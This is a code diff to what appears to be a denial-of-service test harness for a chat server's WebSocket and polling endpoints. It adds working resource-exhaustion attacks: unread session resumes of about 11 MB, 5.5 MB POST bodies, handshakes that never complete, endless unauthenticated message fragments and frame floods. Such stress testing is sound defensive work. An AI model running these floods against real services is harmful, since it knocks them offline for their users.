@@ -29,6 +29,7 @@ class Attack:
     """Sockets that are held, and what was refused."""
 
     address: Address
+    token: str = ""  # of a user, for the attacks that need one
     held: list[socket.socket] = field(default_factory=list)
     refused: int = 0
     _stopping: threading.Event = field(default_factory=threading.Event)
@@ -244,15 +245,97 @@ def malformed_packets(attack: Attack, count: int) -> None:
         attack.hold(sock)
 
 
-def unread_resumes(attack: Attack, token: str, session_id: str, count: int) -> None:
-    """A7: a user asks to resume a long session and never reads."""
+def unread_resumes(attack: Attack, count: int) -> None:
+    """A7: a user asks to resume a session of 11 MB and never reads."""
+    session_id = long_session(attack)
     sock = websocket(attack)
     if sock is None:
         return
     attack.hold(sock)
-    sock.sendall(frame(1, CONNECT % token.encode()))
+    sock.sendall(frame(1, CONNECT % attack.token.encode()))
     time.sleep(0.5)
     for number in range(count):
         body = f'42/chat-run,{number}["resume",{{"session_id":"{session_id}"}}]'
         with contextlib.suppress(OSError):
             sock.sendall(frame(1, body.encode()))
+    time.sleep(5)
+
+
+def unfetched_resumes(attack: Attack, count: int) -> None:
+    """A7 over polling: the POSTs ask, and no GET fetches."""
+    session_id = long_session(attack)
+    sid = polling_sid(attack)
+    post(attack, f"{POLLING}&sid={sid}", CONNECT % attack.token.encode())
+    time.sleep(0.5)
+    asked = b'42/chat-run,1["resume",{"session_id":"%s"}]' % session_id.encode()
+    for _ in range(count):
+        post(attack, f"{POLLING}&sid={sid}", asked)
+    time.sleep(5)
+
+
+def long_session(attack: Attack) -> str:
+    """A session with two inputs of 5.5 MB, whose runs have ended."""
+    text = b"x" * 5_500_000
+    for _ in range(2):
+        body = b'{"session_id":"long","input":"%s"}' % text
+        post(attack, "/runs", body, f"Authorization: Bearer {attack.token}\r\n")
+        time.sleep(4)
+    return "long"
+
+
+def post(attack: Attack, path: str, body: bytes, more: str = "") -> None:
+    """One POST, whatever comes of it."""
+    sock = attack.connect(30.0)
+    if sock is None:
+        return
+    head = (
+        f"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n{more}"
+        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
+    )
+    with sock, contextlib.suppress(OSError):
+        sock.sendall(head.encode() + body)
+        sock.recv(1000)
+
+
+def handshakes(attack: Attack, clients: int) -> None:
+    """A4: strangers who begin again and again, and never send CONNECT."""
+
+    def begin() -> None:
+        if polling_sid(attack) is None:
+            time.sleep(0.05)
+
+    for _ in range(clients):
+        attack.go_on(begin)
+    time.sleep(3)
+
+
+def stranger_fragments(attack: Attack, count: int) -> None:
+    """A4: WebSockets that send 900 KB of a message that never ends, before any token."""
+    begun = bytearray(frame(1, b"4" + b"x" * 900_000))
+    begun[0] &= 0x7F  # more fragments follow
+    for _ in range(count):
+        sock = websocket(attack)
+        if sock is not None:
+            sock.settimeout(0.5)
+            with contextlib.suppress(OSError):
+                sock.sendall(begun)
+            attack.hold(sock)
+
+
+def frame_flood(attack: Attack, clients: int) -> None:
+    """A3, A5: WebSockets of strangers that send small frames as fast as they can."""
+    piece = frame(10, b"x") * 2000
+
+    def flood() -> None:
+        sock = websocket(attack)
+        if sock is None:
+            time.sleep(0.05)
+            return
+        sock.settimeout(1.0)
+        with sock:
+            while True:
+                sock.sendall(piece)
+
+    for _ in range(clients):
+        attack.go_on(flood)
+    time.sleep(3)
